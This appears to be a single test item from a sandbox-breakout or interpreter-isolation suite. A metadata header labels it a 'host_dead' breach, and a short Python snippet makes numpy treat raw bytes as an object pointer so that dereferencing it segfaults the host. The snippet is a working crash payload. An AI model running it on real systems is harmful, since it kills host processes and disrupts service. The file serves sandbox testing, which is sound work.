# id: 544
# name: numpy_vectorized_pickle
# category: interpreter
# technique: numpy.loads, np.frombuffer with objects
# breach: host_dead
# looks_like: the host dies of a segmentation fault
# imports: numpy
# baseline: inproc
import numpy as np
a = np.frombuffer(bytes(8), dtype='O') if 0 else np.ndarray((1,), dtype='O', buffer=(8).to_bytes(8, 'little'))
print('BREACH')
print(a[0])
